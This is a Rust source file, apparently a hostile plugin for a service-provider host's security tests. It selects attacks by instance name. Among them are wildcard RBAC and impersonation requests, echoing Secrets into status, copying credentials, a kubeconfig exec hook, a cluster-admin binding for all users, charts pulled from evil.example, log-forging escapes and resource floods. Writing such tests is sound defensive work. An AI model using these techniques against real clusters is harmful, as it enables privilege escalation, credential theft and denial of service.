//! A hostile plugin for the host's security tests. It requests far more
//! than any grant gives (Secret data, RBAC, wildcard tokens)
//! and picks its attack from the service object's name, so one host serves
//! hostile and healthy instances side by side:
//!
//! | name starts with | the plan tries to |
//! | --- | --- |
//! | `healthy` | behave: a Namespace on the ControlPlane and an allowed copy |
//! | `read-secrets` | echo the Secrets it asked to observe into its status |
//! | `copy-kubeconfig`, `copy-token`, `copy-unlisted`, `copy-untyped` | copy credentials or unlisted Secrets, or copy without a type |
//! | `exec-kubeconfig` | overwrite the AccessRequest's kubeconfig with one that runs a command |
//! | `grant-crb`, `grant-kube-system`, `grant-access-request`, `grant-crd`, `grant-onboarding`, `grant-release-platform` | write what no grant allows |
//! | `sleep` | sleep in a WASI call forever |
//! | `bad-labels` | return labels that are a string |
//! | `hoard`, `huge-output`, `many-objects` | exhaust memory, output size, object count |
//! | `adopt` | take over a HelmRelease someone else made |
//! | `url-delete-collection` | deploy, then delete through a plural that ends the path (`helmreleases#`): a delete-collection |
//! | `flux-cloud-identity`, `flux-service-account` | pull with source-controller's cloud identity or a ServiceAccount's pull secrets |
//! | `flux-foreign-source` | install a chart from a source the plan did not make |
//! | `copy-kind` | copy a ConfigMap under the name of a foreign Secret, then use that name as a `secretRef` |
//! | `read-annotations` | echo the annotations of the ControlPlane's Secrets (metadata only) into its status |
//! | `status-pileup` | name 15 new condition types on every reconcile, to grow the status without end |
//! | `status-too-many`, `status-forged` | report 17 conditions at once, or a reason that breaks the line |
//! | `status-long` | report a 100 KiB message full of terminal escapes |
//! | `flood-status…` | report 40 resources with 30 KB messages that change on every call, every second |
//! | `flood-values…` | apply a HelmRelease whose 900 KB `values` change on every call, every second (`…-huge`: 1.2 MB) |
//! | `fields-bomb` | a HelmRelease whose allowed `values` nest 47,000 leaves under two 250 KB keys |
//! | `forge-transient`, `forge-message` | a transient error or a Ready message with line breaks and escapes that forge log and `kubectl describe` rows |
//! | `transient-huge` | a transient error of 3 MiB, which every retry would log whole |
//! | `flux-foreign-url` | pull a chart from a registry the ProviderConfig does not name |
//! | `flux-fast-poll` | make source-controller poll every second |
//! | `copy-platform-only` | copy onto the ControlPlane a registry credential its source says is for the platform only |
//! | `copy-burst…` | copy two 700 KB sources under names that change with `spec.version` |
//! | `copy-heavy`, `copy-twice` | copy three 700 KB sources at once, or one source twice to the platform |
//! | `namespace-churn…` | plan three ControlPlane Namespaces under names that change with `spec.version` |
//! | `read-foreign-release` | echo the `values` of the HelmReleases it observes in its tenant namespace (another provider's among them) into its status |

use serde_json::{Map, Value, json};
use service_provider_sdk::contract::{
    Access, ApiKind, Capability, CleanupPlan, Cluster, Condition, ConditionStatus, Descriptor, DesiredObject, Detail,
    Input, NamespaceScope, ObjectCopy, ObjectRef, Observation, Plan, PlanError, PolicyRule, Provider, ResourceStatus,
    ServiceStatus, Stage, Teardown,
};

pub struct Hostile;

/// The ConfigMap the `copy-kind` attack copies (labelled as a copy source
/// by the test), and the foreign Secret whose name its copy takes.
pub const CONFIG_MAP_SOURCE: &str = "settings";
pub const FOREIGN_SECRET: &str = "admin-credentials";
/// Where the `url-delete-collection` attack's own HelmRelease lives.
pub const OWN_RELEASE: &str = "own-release";

/// Where the `exec-kubeconfig` attack's command would leave its mark.
pub const EXEC_MARKER: &str = "/tmp/sp-host-hostile-plugin-exec-ran";
/// The Secret every healthy instance may copy (the test's ProviderConfig names it).
pub const ALLOWED_SOURCE: &str = "registry";
/// Large copy sources (the test labels them as sources, 700 KB each): the
/// `copy-burst…` instances copy the first two under names that change with
/// their `spec.version`, `copy-heavy` all three.
pub const BURST_SOURCES: [&str; 3] = ["burst-a", "burst-b", "burst-c"];
/// A source the test annotates as for the platform cluster only.
pub const PLATFORM_ONLY_SOURCE: &str = "platform-pull";
const DOCKER: &str = "kubernetes.io/dockerconfigjson";

fn kind(group: &str, version: &str, kind: &str, plural: &str, namespaced: bool) -> ApiKind {
    ApiKind::new(group, version, kind, plural, namespaced)
}

fn capability(cluster: Cluster, api: ApiKind, scope: NamespaceScope) -> Capability {
    Capability { cluster, api, scope, names: vec![] }
}

fn object(cluster: Cluster, manifest: Value) -> DesiredObject {
    DesiredObject { cluster, manifest: manifest.to_string() }
}

/// A Secret copy; `None` leaves the required type empty.
fn copy(source: &str, cluster: Cluster, namespace: &str, required_type: Option<&str>) -> ObjectCopy {
    ObjectCopy::secret(source, required_type.unwrap_or_default(), cluster, namespace, "stolen")
}

fn status(ready: bool, message: String) -> ServiceStatus {
    ServiceStatus {
        phase: if ready { "Ready" } else { "Progressing" }.into(),
        conditions: vec![Condition {
            type_: "Ready".into(),
            status: if ready { ConditionStatus::True } else { ConditionStatus::False },
            reason: if ready { "ReconcileSuccess" } else { "Observed" }.into(),
            message,
        }],
        resources: None,
    }
}

/// Text that differs on every call: the clock, to the nanosecond.
fn churn() -> String {
    let now = std::time::SystemTime::now().duration_since(std::time::UNIX_EPOCH).unwrap_or_default();
    format!("{}.{:09}", now.as_secs(), now.subsec_nanos())
}

/// The token rules that give power over a cluster beyond its objects:
/// impersonation, RBAC escalation through `*`, minting tokens, approving
/// certificates, the kubelet's and containers' proxies, admission and API
/// registration. Each must be refused unless a grant names it literally.
/// (`*/exec` and other partial wildcards do not even describe: the host
/// refuses the descriptor.)
pub fn cluster_power_rules() -> Vec<PolicyRule> {
    vec![
        PolicyRule::new(&[""], &["users", "groups", "serviceaccounts"], &["impersonate"]),
        PolicyRule::new(&["rbac.authorization.k8s.io"], &["clusterroles", "clusterrolebindings"], &["*"]),
        PolicyRule::new(&[""], &["serviceaccounts/token"], &["create"]),
        PolicyRule::new(&["certificates.k8s.io"], &["certificatesigningrequests/approval"], &["update"]),
        PolicyRule::new(&["certificates.k8s.io"], &["signers"], &["approve"]),
        PolicyRule::new(&[""], &["nodes/proxy"], &["get", "create"]),
        PolicyRule::new(&[""], &["pods/exec"], &["create"]),
        PolicyRule::new(&["admissionregistration.k8s.io"], &["mutatingwebhookconfigurations"], &["create"]),
        PolicyRule::new(&["apiregistration.k8s.io"], &["apiservices"], &["create"]),
    ]
}

fn oci_repository() -> ApiKind {
    kind("source.toolkit.fluxcd.io", "v1", "OCIRepository", "ocirepositories", true)
}

/// An OCIRepository in the tenant namespace, with more in `spec`.
fn source(name: &str, tenant: &str, more: Value) -> Value {
    let mut spec = json!({"interval": "1m", "url": "oci://registry.example/charts/x", "ref": {"tag": "1.0.0"}});
    spec.as_object_mut().expect("an object").extend(more.as_object().cloned().unwrap_or_default());
    json!({
        "apiVersion": "source.toolkit.fluxcd.io/v1", "kind": "OCIRepository",
        "metadata": {"name": name, "namespace": tenant}, "spec": spec,
    })
}

/// A HelmRelease in the tenant namespace, installing through `kubeconfig`
/// (or, without one, into the platform cluster itself).
fn helm_release(name: &str, tenant: &str, kubeconfig: Option<&str>) -> Value {
    let mut release = json!({
        "apiVersion": "helm.toolkit.fluxcd.io/v2", "kind": "HelmRelease",
        "metadata": {"name": name, "namespace": tenant},
        "spec": {"interval": "1m", "chartRef": {"kind": "OCIRepository", "name": "x", "namespace": tenant}},
    });
    if let Some(secret) = kubeconfig {
        release["spec"]["kubeConfig"] = json!({"secretRef": {"name": secret, "key": "kubeconfig"}});
    }
    release
}

impl Provider for Hostile {
    fn describe() -> Descriptor {
        let group = "kro.services.open-control-plane.io";
        let secret = kind("", "v1", "Secret", "secrets", true);
        use Cluster::*;
        use NamespaceScope::*;
        Descriptor {
            access: Access {
                control_plane_rules: vec![
                    PolicyRule::new(
                        &[""],
                        &["namespaces", "secrets"],
                        &["get", "list", "create", "update", "patch", "delete"],
                    ),
                    PolicyRule::new(&["*"], &["*"], &["*"]),
                ]
                .into_iter()
                .chain(cluster_power_rules())
                .collect(),
                workload_cluster: true,
                workload_rules: vec![PolicyRule::new(&["*"], &["*"], &["*"])],
            },
            capabilities: vec![
                capability(ControlPlane, kind("", "v1", "Namespace", "namespaces", false), ClusterScoped),
                capability(Platform, secret.clone(), Tenant),
                capability(ControlPlane, secret.clone(), Named("default".into())),
                capability(
                    ControlPlane,
                    kind("rbac.authorization.k8s.io", "v1", "ClusterRoleBinding", "clusterrolebindings", false),
                    ClusterScoped,
                ),
                capability(ControlPlane, kind("", "v1", "ConfigMap", "configmaps", true), Named("kube-system".into())),
                capability(Platform, kind("", "v1", "ConfigMap", "configmaps", true), Tenant),
                capability(
                    Platform,
                    kind("clusters.openmcp.cloud", "v1alpha1", "AccessRequest", "accessrequests", true),
                    Tenant,
                ),
                capability(
                    ControlPlane,
                    kind("apiextensions.k8s.io", "v1", "CustomResourceDefinition", "customresourcedefinitions", false),
                    ClusterScoped,
                ),
                capability(Onboarding, kind(group, "v1alpha1", "Kro", "kroes", true), ClusterScoped),
                capability(Platform, kind("helm.toolkit.fluxcd.io", "v2", "HelmRelease", "helmreleases", true), Tenant),
                capability(Platform, oci_repository(), Tenant),
            ],
            observations: vec![
                Observation {
                    id: "all-secrets".into(),
                    cluster: Platform,
                    api: secret.clone(),
                    scope: ClusterScoped,
                    name: None,
                    stage: Stage::Always,
                    detail: Detail::Full,
                },
                Observation {
                    id: "releases".into(),
                    cluster: Platform,
                    api: kind("helm.toolkit.fluxcd.io", "v2", "HelmRelease", "helmreleases", true),
                    scope: Tenant,
                    name: None,
                    stage: Stage::Reconcile,
                    detail: Detail::Full,
                },
                Observation {
                    id: "cp-secrets".into(),
                    cluster: ControlPlane,
                    api: secret,
                    scope: ClusterScoped,
                    name: None,
                    stage: Stage::Reconcile,
                    detail: Detail::Metadata,
                },
            ],
            ..Descriptor::new(
                "hostile",
                kind(group, "v1alpha1", "Kro", "kroes", true),
                kind(group, "v1alpha1", "ProviderConfig", "providerconfigs", false),
                "hostile.test/finalizer",
            )
        }
    }

    fn plan(input: &Input) -> Result<Plan, PlanError> {
        let service: Value = serde_json::from_str(&input.object).map_err(|e| PlanError::Transient(e.to_string()))?;
        let name = service.pointer("/metadata/name").and_then(Value::as_str).unwrap_or_default().to_string();
        let tenant = input.context.tenant_namespace.as_str();
        let cp_secret = input.context.control_plane.as_ref().map(|k| k.name.clone()).unwrap_or_default();
        let mut objects = Vec::new();
        let mut copies = Vec::new();
        let mut ready = (true, "healthy".to_string());
        use Cluster::*;
        match name.as_str() {
            n if n.starts_with("healthy") => {
                let namespace = json!({"apiVersion": "v1", "kind": "Namespace", "metadata": {"name": format!("ok-{n}")}});
                objects.push(object(ControlPlane, namespace));
                copies.push(ObjectCopy {
                    target_name: format!("sp-hostile-{ALLOWED_SOURCE}"),
                    ..copy(ALLOWED_SOURCE, Platform, tenant, Some(DOCKER))
                });
            }
            n if n.starts_with("copy-burst") => {
                let round = service.pointer("/spec/version").and_then(Value::as_str).unwrap_or_default();
                copies.extend(BURST_SOURCES[..2].iter().map(|source| ObjectCopy {
                    target_name: format!("{source}-{round}"),
                    ..copy(source, Platform, tenant, Some(DOCKER))
                }));
            }
            n if n.starts_with("namespace-churn") => {
                let round = service.pointer("/spec/version").and_then(Value::as_str).unwrap_or_default();
                for i in 0..3 {
                    let name = format!("churn-{round}-{i}");
                    objects.push(object(ControlPlane, json!({"apiVersion": "v1", "kind": "Namespace", "metadata": {"name": name}})));
                }
            }
            "copy-heavy" => copies.extend(BURST_SOURCES.iter().map(|source| ObjectCopy {
                target_name: format!("heavy-{source}"),
                ..copy(source, Platform, tenant, Some(DOCKER))
            })),
            "copy-twice" => copies.extend(["twice-1", "twice-2"].map(|target| ObjectCopy {
                target_name: target.into(),
                ..copy(ALLOWED_SOURCE, Platform, tenant, Some(DOCKER))
            })),
            "read-secrets" => {
                let seen = input.observed("all-secrets").map(|o| o.join(" | "));
                ready = (false, format!("observed secrets: {}", seen.unwrap_or_else(|| "none (not observed)".into())));
            }
            "copy-kubeconfig" => copies.push(copy("onboarding-kubeconfig", Platform, tenant, Some("Opaque"))),
            "copy-token" => copies.push(copy("sa-token", ControlPlane, "default", Some("kubernetes.io/service-account-token"))),
            "copy-unlisted" => copies.push(copy("unlisted", Platform, tenant, Some(DOCKER))),
            "copy-untyped" => copies.push(copy(ALLOWED_SOURCE, Platform, tenant, None)),
            "copy-platform-only" => copies.push(copy(PLATFORM_ONLY_SOURCE, ControlPlane, "default", Some(DOCKER))),
            "exec-kubeconfig" => {
                let kubeconfig = format!(
                    "apiVersion: v1\nkind: Config\ncurrent-context: c\ncontexts: [{{name: c, context: {{cluster: k, user: u}}}}]\nclusters: [{{name: k, cluster: {{server: 'https://127.0.0.1:1'}}}}]\nusers: [{{name: u, user: {{exec: {{apiVersion: client.authentication.k8s.io/v1, command: touch, args: ['{EXEC_MARKER}']}}}}}}]\n"
                );
                objects.push(object(Platform, json!({
                    "apiVersion": "v1", "kind": "Secret",
                    "metadata": {"name": cp_secret, "namespace": tenant},
                    "stringData": {"kubeconfig": kubeconfig},
                })));
            }
            "grant-crb" => objects.push(object(ControlPlane, json!({
                "apiVersion": "rbac.authorization.k8s.io/v1", "kind": "ClusterRoleBinding",
                "metadata": {"name": "hostile-admin"},
                "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole", "name": "cluster-admin"},
                "subjects": [{"kind": "Group", "name": "system:authenticated", "apiGroup": "rbac.authorization.k8s.io"}],
            }))),
            "grant-kube-system" => objects.push(object(ControlPlane, json!({
                "apiVersion": "v1", "kind": "ConfigMap", "metadata": {"name": "hostile", "namespace": "kube-system"},
            }))),
            "grant-access-request" => objects.push(object(Platform, json!({
                "apiVersion": "clusters.openmcp.cloud/v1alpha1", "kind": "AccessRequest",
                "metadata": {"name": "hostile", "namespace": tenant},
                "spec": {"requestRef": {"name": name, "namespace": tenant}, "token": {"permissions": [{"rules": [{"apiGroups": ["*"], "resources": ["*"], "verbs": ["*"]}]}]}},
            }))),
            "grant-crd" => objects.push(object(ControlPlane, json!({
                "apiVersion": "apiextensions.k8s.io/v1", "kind": "CustomResourceDefinition",
                "metadata": {"name": "things.evil.example"},
                "spec": {"group": "evil.example", "names": {"kind": "Thing", "plural": "things"}, "scope": "Namespaced", "versions": []},
            }))),
            "grant-onboarding" => objects.push(object(Onboarding, json!({
                "apiVersion": "kro.services.open-control-plane.io/v1alpha1", "kind": "Kro",
                "metadata": {"name": "someone-elses"}, "spec": {"version": "hijacked"},
            }))),
            "grant-release-platform" => objects.push(object(Platform, helm_release("hostile", tenant, None))),
            // The instance's own kubeconfig Secret as the chart's values:
            // helm-controller would hand the token to the chart.
            "flux-values-from" => {
                let mut release = helm_release("hostile", tenant, Some(&cp_secret));
                release["spec"]["valuesFrom"] = json!([{"kind": "Secret", "name": cp_secret, "valuesKey": "kubeconfig"}]);
                objects.push(object(Platform, source("x", tenant, json!({}))));
                objects.push(object(Platform, release));
            }
            n if n.starts_with("sleep") => std::thread::sleep(std::time::Duration::from_secs(3600)),
            "bad-labels" => objects.push(object(Platform, json!({
                "apiVersion": "v1", "kind": "ConfigMap",
                "metadata": {"name": "bad", "namespace": tenant, "labels": "not-a-map", "annotations": ["nor", "this"]},
            }))),
            "hoard" => {
                let mut hoard: Vec<Vec<u8>> = Vec::new();
                loop {
                    hoard.push(vec![1u8; 16 << 20]);
                    std::hint::black_box(&hoard);
                }
            }
            "huge-output" => objects.push(object(Platform, json!({
                "apiVersion": "v1", "kind": "ConfigMap",
                "metadata": {"name": "huge", "namespace": tenant}, "data": {"x": "x".repeat(6 << 20)},
            }))),
            "many-objects" => objects.extend((0..1000).map(|i| {
                object(ControlPlane, json!({"apiVersion": "v1", "kind": "Namespace", "metadata": {"name": format!("n{i}")}}))
            })),
            "adopt" => {
                objects.push(object(Platform, source("x", tenant, json!({}))));
                objects.push(object(Platform, helm_release("admin-release", tenant, Some(&cp_secret))));
            }
            "url-delete-collection" => {
                objects.push(object(Platform, source("x", tenant, json!({}))));
                objects.push(object(Platform, helm_release(OWN_RELEASE, tenant, Some(&cp_secret))));
            }
            "flux-cloud-identity" => objects.push(object(Platform, source("x", tenant, json!({"provider": "aws"})))),
            "flux-service-account" => {
                objects.push(object(Platform, source("x", tenant, json!({"serviceAccountName": "default"}))))
            }
            "flux-foreign-source" => {
                let mut release = helm_release("foreign", tenant, Some(&cp_secret));
                release["spec"]["chartRef"]["name"] = json!("admin-source");
                objects.push(object(Platform, release));
            }
            "copy-kind" => {
                copies.push(ObjectCopy::config_map(CONFIG_MAP_SOURCE, Platform, tenant, FOREIGN_SECRET));
                let secret_ref = json!({"secretRef": {"name": FOREIGN_SECRET}});
                objects.push(object(Platform, source("x", tenant, secret_ref)));
            }
            "read-annotations" => {
                let seen = input.observed("cp-secrets").unwrap_or_default();
                let annotations: Vec<String> = seen
                    .iter()
                    .filter_map(|o| serde_json::from_str::<Value>(o).ok())
                    .map(|o| format!("{} {}", o["metadata"]["name"], o["metadata"]["annotations"]))
                    .collect();
                ready = (false, format!("observed annotations: {}", annotations.join(" | ")));
            }
            "read-foreign-release" => {
                let seen = input.observed("releases").unwrap_or_default();
                let values: Vec<String> = seen
                    .iter()
                    .filter_map(|o| serde_json::from_str::<Value>(o).ok())
                    .map(|o| format!("{} {}", o["metadata"]["name"], o["spec"]["values"]))
                    .collect();
                ready = (false, format!("observed releases: {}", values.join(" | ")));
            }
            "status-pileup" => {
                // New types each time: numbered by how many the status holds now.
                let now = service.pointer("/status/conditions").and_then(Value::as_array).map_or(0, Vec::len);
                let mut report = status(true, "piling up".into());
                report.conditions.extend((1..16).map(|i| Condition {
                    type_: format!("Pile{now}x{i}"),
                    status: ConditionStatus::True,
                    reason: "Piled".into(),
                    message: String::new(),
                }));
                return Ok(Plan { objects, copies, status: report, requeue_after_seconds: 1 });
            }
            "status-too-many" => {
                let mut report = status(true, "too many".into());
                let first = report.conditions[0].clone();
                report.conditions.extend((1..17).map(|i| Condition { type_: format!("Extra{i}"), ..first.clone() }));
                return Ok(Plan { objects, copies, status: report, requeue_after_seconds: 60 });
            }
            "status-forged" => {
                let mut report = status(true, "forged".into());
                report.conditions[0].reason = "Fine\nReady: True (ReconcileSuccess)".into();
                return Ok(Plan { objects, copies, status: report, requeue_after_seconds: 60 });
            }
            "status-long" => ready = (true, "\u{1b}[2J\u{1b}[31mcleared ".repeat(100 << 10 >> 4)),
            n if n.starts_with("flood-status") => {
                let stamp = churn();
                let resources = (0..40)
                    .map(|i| ResourceStatus {
                        api_group: None,
                        kind: "ConfigMap".into(),
                        name: format!("flood-{i}"),
                        namespace: None,
                        phase: "Ready".into(),
                        message: Some(format!("{stamp} {}", "x".repeat(30_000))),
                        location: None,
                    })
                    .collect();
                let report = ServiceStatus { resources: Some(resources), ..status(true, format!("flooding {stamp}")) };
                return Ok(Plan { objects, copies, status: report, requeue_after_seconds: 1 });
            }
            n if n.starts_with("flood-values") => {
                let size = if n.ends_with("huge") { 1_200_000 } else { 900_000 };
                objects.push(object(Platform, source("x", tenant, json!({}))));
                let mut release = helm_release("flood", tenant, Some(&cp_secret));
                release["spec"]["values"] = json!({"blob": format!("{} {}", churn(), "v".repeat(size))});
                objects.push(object(Platform, release));
                return Ok(Plan { objects, copies, status: status(true, "flooding".into()), requeue_after_seconds: 1 });
            }
            "fields-bomb" => {
                // Every leaf's full path would be 500 KB: 47,000 of them.
                let leaves: Map<String, Value> = (0..47_000).map(|i| (format!("k{i}"), json!(0))).collect();
                let mut values = Map::new();
                values.insert("a".repeat(250_000), json!({"b".repeat(250_000): leaves}));
                objects.push(object(Platform, source("x", tenant, json!({}))));
                let mut release = helm_release("bomb", tenant, Some(&cp_secret));
                release["spec"]["values"] = Value::Object(values);
                objects.push(object(Platform, release));
            }
            "forge-transient" => {
                return Err(PlanError::Transient(
                    "upstream failed\nERROR service_provider_host: forged line instance=victim\r\n\u{1b}[2Jcleared".into(),
                ));
            }
            "transient-huge" => {
                return Err(PlanError::Transient(format!("upstream said: {}", "x".repeat(3 << 20))));
            }
            "forge-message" => {
                ready = (true, "fine\n  Ready   True   ReconcileSuccess   a forged row\r\n\u{1b}[2J".into());
            }
            "flux-foreign-url" => {
                objects.push(object(Platform, source("x", tenant, json!({"url": "oci://evil.example/charts/x"}))))
            }
            "flux-fast-poll" => objects.push(object(Platform, source("x", tenant, json!({"interval": "1s"})))),
            other => ready = (false, format!("no attack is named {other:?}")),
        }
        Ok(Plan { objects, copies, status: status(ready.0, ready.1), requeue_after_seconds: 60 })
    }

    fn cleanup(input: &Input) -> Result<CleanupPlan, PlanError> {
        let service: Value = serde_json::from_str(&input.object).map_err(|e| PlanError::Transient(e.to_string()))?;
        let mut objects = Vec::new();
        if service.pointer("/metadata/name").and_then(Value::as_str) == Some("url-delete-collection") {
            objects.push(ObjectRef {
                cluster: Cluster::Platform,
                api_version: "helm.toolkit.fluxcd.io/v2".into(),
                kind: "HelmRelease".into(),
                plural: "helmreleases#".into(),
                namespace: Some(input.context.tenant_namespace.clone()),
                name: OWN_RELEASE.into(),
            });
        }
        Ok(CleanupPlan::Teardown(Teardown { objects, copies: vec![], resources: None }))
    }
}

service_provider_sdk::export_provider!(crate::Hostile);
